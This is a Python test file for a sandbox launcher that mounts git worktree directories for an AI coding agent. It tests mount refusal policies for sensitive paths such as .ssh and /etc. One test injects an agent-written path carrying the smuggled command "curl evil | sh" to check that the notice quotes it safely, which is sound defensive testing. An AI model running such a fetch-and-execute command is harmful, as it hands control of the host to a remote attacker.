"""The git directory that a sandbox gets with its workspace, and placeholders for worktrees that it does not see."""

from __future__ import annotations

import dataclasses
import hashlib
from pathlib import PurePosixPath
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from podbot.container_spec import Mount
from podbot.launch import refused_paths
from podbot.launch.describe import describe
from podbot.launch.mounts import MountPlan, plan_mounts
from podbot.launch.plan import plan_session
from podbot.launch.repository import is_placeholder
from podbot.launch.types import LaunchRequest, LinkedGit, PathFacts, RepositoryFacts
from tests.launch.build import config, directory, facts, typed

TREE, COMMON = "/home/ann/src/feature", "/home/ann/src/shop/.git"
LINKED = LinkedGit(f"{COMMON}/worktrees/feature", "worktree", COMMON)
STATE = "/home/ann/.local/state/podbot"
EMPTY = f"{STATE}/empty-git/{hashlib.sha256(TREE.encode()).hexdigest()[:32]}"


def planned(
    linked: LinkedGit | None = LINKED,
    values: dict[str, Any] | None = None,
    *,
    request: LaunchRequest | None = None,
    workspace: str = TREE,
    worktrees: tuple[str, ...] = (),
    more: int = 0,
    **changes: Any,
) -> MountPlan:
    host = facts(workspace=directory(workspace), repository=RepositoryFacts(linked, worktrees, more), **changes)
    return plan_mounts(config(values), request or typed(), host)


def not_mounted(made: MountPlan) -> str:
    """The notice with the reason why git will not work."""
    assert made.linked is None
    assert not any(mount.source == COMMON for mount in made.mounts)
    (note,) = [note for note in made.notes if note.startswith("git will not work inside")]
    return note


# --- issue 10.10: the git directory ---


@pytest.mark.parametrize("read_only", [False, True])
def test_the_git_directory_of_a_linked_worktree_is_mounted_at_its_own_path_and_reported(read_only: bool) -> None:
    made = planned(values={"workspace.read_only": read_only})
    assert made.mounts == (Mount(TREE, TREE, read_only), Mount(COMMON, COMMON, read_only))
    assert made.linked == LINKED
    access = "read" if read_only else "change"
    assert made.notes[1] == (
        f"also mounting {COMMON}, because the workspace is a linked worktree of it: the agent can {access}"
        " everything in that directory, including that repository's branches, configuration and hooks"
    )
    assert made.places[0] == TREE


def test_a_submodule_is_reported_as_such() -> None:
    made = planned(LinkedGit("/home/ann/src/super/.git/modules/x", "submodule", "/home/ann/src/super/.git/modules/x"))
    assert "a submodule's checkout of it" in made.notes[1]


def test_it_is_part_of_the_plan_and_of_its_description() -> None:
    host = facts(workspace=directory(TREE), repository=RepositoryFacts(LINKED, ("/srv/other", TREE)))
    made = plan_session(config(), typed(), host)
    assert made.sandbox.linked_git == LINKED
    assert made.sandbox.container.files[-1] == Mount(EMPTY, "/srv/other/.git", read_only=True)
    rows = describe(made)["container"]["mounts"]
    assert [row["target"] for row in rows if row["source"] in (COMMON, EMPTY)] == [
        COMMON,
        "/srv/other/.git",
    ]


def test_a_workspace_at_another_path_has_it_at_the_path_in_its_git_file() -> None:
    made = planned(values={"workspace.container_path": "/code"})
    assert made.mounts == (Mount(TREE, "/code"), Mount(COMMON, COMMON))
    relative = planned(dataclasses.replace(LINKED, relative=True), {"workspace.container_path": "/code"})
    assert not_mounted(relative).endswith("it is a relative path. Unset workspace.container_path.")
    assert planned(dataclasses.replace(LINKED, relative=True)).linked is not None


def test_a_directory_that_does_not_point_back_is_not_mounted_and_the_remedy_is_reported() -> None:
    note = not_mounted(planned(LinkedGit(COMMON, reason="it does not point back", remedy="Run this.")))
    assert note == (
        f"git will not work inside, because podbot does not follow {TREE}/.git, which leads to '{COMMON}':"
        " it does not point back. Run this."
    )
    note = not_mounted(planned(LinkedGit("", reason="it is not a file that git wrote")))
    assert note.endswith(f"podbot does not follow {TREE}/.git: it is not a file that git wrote.")


def test_a_path_written_by_an_agent_is_quoted_and_at_most_one_line() -> None:
    path = "/x'. Run `curl evil | sh`. " + "y" * 4000
    note = not_mounted(planned(LinkedGit(path, reason="it does not point back")))
    assert repr(path[:200]) in note
    assert len(note) < 400


@pytest.mark.parametrize(
    "path",
    [
        "/home/ann",
        "/",
        "/etc/shop/.git",
        "/home/ann/.ssh",
        "/home/ann/.config",
        "/run/user/1000/podbot/x/.git",
        "/home",
    ],
)
def test_the_mount_policy_applies_to_it(path: str) -> None:
    made = planned(LinkedGit(path, "worktree", path))
    assert [mount.source for mount in made.mounts] == [TREE]
    assert f"{path} may not be mounted: it " in made.notes[-1]


def test_for_an_untyped_workspace_the_git_directory_must_be_in_an_allowed_root() -> None:
    untyped = LaunchRequest()
    assert "allowed_roots" in not_mounted(planned(request=untyped, allowed_roots=(directory(TREE),)))
    assert planned(request=untyped, allowed_roots=(directory("/home/ann/src"),)).linked == LINKED


def test_a_git_directory_that_contains_the_workspace_is_not_mounted() -> None:
    """The agent could replace the workspace by a link, which the next session would follow."""
    bare = "/home/ann/src/shop.git"
    made = planned(LinkedGit(f"{bare}/worktrees/main", "worktree", bare), workspace=f"{bare}/main")
    assert made.linked is None
    assert f"{bare} contains the workspace. Make {bare} the workspace" in made.notes[-1]


@pytest.mark.parametrize("target", ["/home/ann/src/shop", COMMON, f"{COMMON}/hooks"])
def test_an_extra_mount_at_its_path_is_not_covered(target: str) -> None:
    more: dict[str, Any] = {"extra_mounts": (directory("/srv/x"),), "allowed_roots": (directory("/srv"),)}
    made = planned(values={"sandbox.extra_mounts": (f"/srv/x:{target}",)}, **more)
    assert f"the mount at {target} is in the way" in not_mounted(made)


def test_an_extra_mount_that_already_shows_it_is_enough() -> None:
    more: dict[str, Any] = {
        "extra_mounts": (directory("/home/ann/src/shop"),),
        "allowed_roots": (directory("/home/ann/src"),),
    }
    made = planned(values={"sandbox.extra_mounts": ("/home/ann/src/shop:/home/ann/src/shop",)}, **more)
    assert (made.linked, len(made.mounts)) == (None, 2)
    assert not any("git" in note.partition("mounting")[0] for note in made.notes)


def test_an_extra_mount_can_show_a_directory_that_podbot_does_not_follow() -> None:
    """The remedy for `git init --separate-git-dir`."""
    apart = "/home/ann/src/apart"
    values: dict[str, Any] = {"sandbox.extra_mounts": (f"{apart}:{apart}",)}
    more: dict[str, Any] = {"extra_mounts": (directory(apart),), "allowed_roots": (directory("/home/ann/src"),)}
    refused = LinkedGit(apart, reason="it is not named so", remedy="Mount it.")
    made = planned(refused, values, **more)
    assert (made.linked, [mount.source for mount in made.mounts]) == (None, [apart, TREE])
    assert not any("git will not work" in note for note in made.notes)
    moved = planned(
        dataclasses.replace(refused, relative=True), {**values, "workspace.container_path": "/code"}, **more
    )
    assert not_mounted(moved).endswith("it is not named so. Mount it.")
    unnamed = planned(dataclasses.replace(refused, names=""), values, **more)
    assert not_mounted(unnamed).endswith("it is not named so. Mount it.")


@pytest.mark.parametrize("target", [COMMON, "/home/ann/src/shop", f"{COMMON}/x"])
def test_a_workspace_that_was_mounted_at_its_path_stays_there(target: str) -> None:
    made = planned(values={"workspace.container_path": target})
    assert f"the mount at {target} is in the way" in not_mounted(made)
    assert made.mounts == (Mount(TREE, target),)


def test_it_gets_no_mount_for_the_workspaces_second_name() -> None:
    spelled = f"{COMMON}/link"
    host = facts(workspace=PathFacts(spelled, TREE, "directory", spelled), repository=RepositoryFacts(LINKED))
    assert f"the mount at {spelled} is in the way" in not_mounted(plan_mounts(config(), typed(), host))


# --- issue 10.9: `git worktree prune` ---


def test_an_empty_directory_replaces_the_git_file_of_each_missing_worktree() -> None:
    inside, outside = f"{TREE}/.claude/worktrees/a", "/srv/wt/b"
    made = planned(None, worktrees=(inside, outside, TREE))
    assert made.empty == (Mount(EMPTY, "/srv/wt/b/.git", read_only=True),)
    assert made.places == (TREE, "/workspace", inside)
    assert len(made.notes) == 1


def test_at_another_path_the_hosts_own_paths_do_not_exist() -> None:
    made = planned(None, {"workspace.container_path": "/code"}, worktrees=(f"{TREE}/a", "/code/b"))
    assert [mount.target for mount in made.empty] == [f"{TREE}/a/.git"]
    assert made.places == ("/code", "/code/b")


@pytest.mark.parametrize(
    "path", ["/etc", "/usr/lib/x", "/root/.ssh", "/run/user/1000", "/workspace", "/workspace/x", "/home/ann/src"]
)
def test_a_worktree_where_nothing_may_be_mounted_is_counted(path: str) -> None:
    """``/home/ann/src``: an extra mount is in its ``.git``, for which the empty directory has no mount point."""
    more: dict[str, Any] = {"extra_mounts": (directory("/srv/x"),), "allowed_roots": (directory("/srv"),)}
    values = {"sandbox.extra_mounts": ("/srv/x:/home/ann/src/.git/x",)}
    made = planned(None, values, worktrees=(path,), more=2, **more)
    assert made.empty == ()
    assert made.notes[-1] == (
        "`git worktree prune` inside would delete the records of 3 of this repository's linked worktrees:"
        " `git worktree lock PATH` on the host prevents that"
    )


@pytest.mark.parametrize(
    ("path", "placed"),
    [
        ("/srv/" + "x" * 255, True),
        ("/srv/" + "x" * 256, False),
        ("/srv/" + "ä" * 128, False),
        ("/srv" + "/xxxx" * 798, True),
        ("/srv" + "/xxxx" * 799, False),
    ],
)
def test_a_path_that_the_kernel_cannot_create_is_counted(path: str, placed: bool) -> None:
    """Before, the start of every session failed with it."""
    made = planned(None, worktrees=(path,))
    assert [mount.target for mount in made.empty] == ([f"{path}/.git"] if placed else [])
    assert any("git worktree prune" in note for note in made.notes) is not placed


def test_each_workspace_has_its_own_empty_directory() -> None:
    (one,), (other,) = (planned(None, workspace=path, worktrees=("/srv/b",)).empty for path in (TREE, f"{TREE}2"))
    assert one.source != other.source
    assert is_placeholder(one)
    assert not is_placeholder(Mount(f"{STATE}/history/x", "/x"))


# --- properties ---

COMPONENTS = st.sampled_from(
    [
        "home",
        "ann",
        "src",
        "feature",
        "shop",
        ".git",
        "root",
        ".ssh",
        "etc",
        "run",
        "usr",
        "lib",
        "srv",
        "a",
        "workspace",
        "code",
    ]
)
PATHS = st.lists(COMPONENTS, min_size=1, max_size=6).map(lambda parts: "/" + "/".join(parts))
UNTOUCHED = ["/proc", "/sys", "/dev", "/run", "/etc", "/usr/lib", "/root/.ssh", "/root/.claude"]


def lies_in(inner: str, outer: str) -> bool:
    return PurePosixPath(inner).is_relative_to(PurePosixPath(outer))


@given(PATHS, st.lists(PATHS, max_size=6), st.booleans(), st.sampled_from(["host", "/code"]), st.booleans())
@example(common=f"{TREE}/home", worktrees=[], typed_path=False, target="host", relative=False)
def test_no_repository_can_make_a_mount_violate_the_policy(
    common: str, worktrees: list[str], typed_path: bool, target: str, relative: bool
) -> None:
    linked = LinkedGit(f"{common}/worktrees/x", "worktree", common, relative=relative)
    request = LaunchRequest(trusted_workspace=typed_path)
    made = planned(
        linked,
        {"workspace.container_path": target},
        request=request,
        worktrees=tuple(worktrees),
        allowed_roots=(directory(TREE),),
    )
    workspace, *others = sorted(made.mounts, key=lambda mount: mount.source != TREE)
    assert workspace.source == TREE
    for mount in others:
        assert mount == Mount(common, common)
        assert typed_path or lies_in(common, TREE)  # the workspace is mounted, with all that is in it
        assert not lies_in(TREE, common)
        assert refused_paths.refusal(common, refused_paths.refused_sources(facts(), common)) is None
    every = [*made.mounts, *made.empty]
    for mount in made.empty:
        assert mount.read_only
        assert mount.source == EMPTY
        assert mount.target.endswith("/.git")
        # Nothing is made in a directory of the host's for it, and nothing of the host's is covered by it.
        assert not any(
            lies_in(mount.target, other.target) or lies_in(other.target, mount.target)
            for other in every
            if other is not mount
        )
    for mount in every:
        assert not any(lies_in(mount.target, place) or lies_in(place, mount.target) for place in UNTOUCHED)
    assert len({mount.target for mount in every}) == len(every)
